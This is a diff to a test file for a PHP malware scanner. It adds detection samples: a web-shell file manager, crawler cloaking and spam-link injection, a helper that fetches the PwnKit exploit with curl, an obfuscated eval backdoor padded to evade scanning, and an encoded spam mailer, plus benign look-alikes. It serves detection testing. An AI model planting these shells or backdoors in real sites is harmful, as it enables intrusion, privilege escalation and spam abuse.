@@ -123,6 +123,76 @@ echo grab($src);
 </body>
 </html>`,
   ],
+[
+    'a file manager whose folder is realpath() of the request\'s, kept when empty, and whose names basename() cleans: deletes, writes and lists (H50)',
+    '/srv/www/wp-includes/sh.php',
+    `<?php
+$path = isset($_GET['path']) ? realpath($_GET['path']) : realpath(__DIR__);
+if (!$path) $path = realpath(__DIR__);
+if (isset($_GET['del'])) { $t = $path . '/' . basename($_GET['del']); is_dir($t) ? rmdir($t) : unlink($t); header('Location: ?path=' . urlencode($path)); exit; }
+if (isset($_POST['save'])) { $f = $path . '/' . basename($_POST['file']); file_put_contents($f, $_POST['content']); exit; }
+foreach (scandir($path) as $i) echo '<a href="?path=' . urlencode($path . '/' . $i) . '">' . htmlspecialchars($i) . '</a><br>';
+`,
+  ],
+  [
+    'an application\'s front file with crawlers on its home page shown a fixed page from a static host (H50)',
+    '/srv/www/system/core/CodeIgniter.php',
+    `<?php
+/** CodeIgniter front controller (stand-in) */
+$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
+$ref = strtolower($_SERVER['HTTP_REFERER'] ?? '');
+if ($_SERVER['REQUEST_URI'] == '/' && (strpos($ua, 'bot') !== false || strpos($ua, 'google') !== false || strpos($ref, 'google') !== false)) {
+    echo file_get_contents('links-4u.pages.dev/home');
+    exit();
+}
+defined('BASEPATH') OR exit('No direct script access allowed');
+`,
+  ],
+  [
+    'a core file with a remote text file printed at its end (H50)',
+    '/srv/www/system/core/Common.php',
+    `<?php
+function is_php($version) { return version_compare(PHP_VERSION, $version, '>='); }
+echo file_get_contents("https://cheap-links.pages.dev/list.txt");
+`,
+  ],
+  [
+    'a root helper fetching PwnKit through a command wrapper and making it executable (H50)',
+    '/srv/www/r.php',
+    `<?php
+function run($c) { if (function_exists('shell_exec')) return shell_exec($c); @exec($c, $o); return implode("\\n", $o); }
+echo '<pre>' . php_uname() . '</pre>';
+if (isset($_GET['go'])) {
+  run('curl -fsSL https://raw.githubusercontent.com/someone/PwnKit/main/PwnKit -o pk; chmod +x pk');
+  echo 'fetched';
+}
+`,
+  ],
+  [
+    'WordPress malware building create_function letter by letter from one-letter variables, the body too (H51)',
+    '/srv/www/wp-content/themes/x/imvm.php',
+    `<?php
+${Array.from('create_function', (c, i) => `$v${i} = '${c}x';`).join(' ')}
+$a1 = 'eval(';
+$a2 = 'array_pop(func_get_args()));';
+${'/* ' + 'padding to make the file larger than the smallest ones the fold reads at once '.repeat(60) + '*/'}
+$mk = $v0[0] . $v1[0]. $v2['0'] . $v3['0'] . $v4[0] . $v5[0] . $v6['0'] . $v7[0] . $v8[0] . $v9['0'] . $v10[0] . $v11[0] . $v12['0'] . $v13[0] . $v14[0];
+$run = $mk('', $a1 . $a2);
+$run($_POST['x'] ?? '');
+`,
+  ],
+  [
+    'a spam mailer taking to, subject, body and headers from the first posted value, reversed, base64 and split on |||, over array_map(\'stripslashes\', $_POST) (H51)',
+    '/srv/www/wp-content/uploads/2024/d.php',
+    `<?php
+function b64u($v) { return base64_decode(strtr($v, '-_,', '+/=')); }
+if (isset($_POST) and count($_POST) > 0) {
+  $vals = array_values(array_map('stripslashes', $_POST));
+  $m = explode('|||', b64u(strrev($vals[0])));
+  echo json_encode(['mail' => mail($m[0], $m[1], $m[2], $m[3]) ? 1 : 0]);
+}
+`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -211,6 +281,45 @@ $r = wp_remote_get($banner, ['timeout' => 5]);
 if (!is_wp_error($r)) echo wp_kses_post(wp_remote_retrieve_body($r));
 ?>
 </body></html>`,
+  ],
+[
+    'a prerender middleware giving crawlers the page asked for, rendered by a service',
+    '/srv/www/public/index.php',
+    `<?php
+$ua = $_SERVER['HTTP_USER_AGENT'] ?? '';
+if (preg_match('/googlebot|bingbot|yandex/i', $ua)) {
+  echo file_get_contents('https://render.example.com/render?url=' . rawurlencode('https://shop.example.com' . $_SERVER['REQUEST_URI']));
+  exit;
+}
+require __DIR__ . '/app.php';
+`,
+  ],
+  [
+    'a maintenance page printing a status text from the company\'s own site',
+    '/srv/www/status.php',
+    `<?php
+$s = @file_get_contents('https://status.example.com/api/v2/status.json');
+echo htmlspecialchars(json_decode($s, true)['status']['description'] ?? 'unknown');
+`,
+  ],
+  [
+    'a server audit page listing kernel exploits to patch, linking to advisories',
+    '/srv/www/admin/audit.php',
+    `<?php
+$k = php_uname('r');
+$known = ['CVE-2021-4034 (PwnKit)' => 'polkit', 'CVE-2022-0847 (Dirty Pipe)' => '5.8 to 5.16'];
+foreach ($known as $id => $what) echo '<li>' . htmlspecialchars("$id: $what") . ' <a href="https://nvd.nist.gov/">advisory</a></li>';
+echo '<pre>' . htmlspecialchars(shell_exec('uname -a')) . '</pre>';
+`,
+  ],
+  [
+    'a form that trims every posted value with array_map and mails the site\'s own address',
+    '/srv/www/contact.php',
+    `<?php
+$in = array_map('trim', $_POST);
+mail('info@example.com', 'Contact form', 'From: ' . ($in['name'] ?? '') . "\\n\\n" . ($in['message'] ?? ''));
+echo 'Thanks';
+`,
   ],
 ];
 
@@ -328,14 +437,14 @@ describe('scan: session 44 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 8));
+  it('ran every page', () => assert.equal(PAGES.length, 14));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 7));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 11));
 });
 
 describe('scan: families written from their published shapes (session 44)', () => {
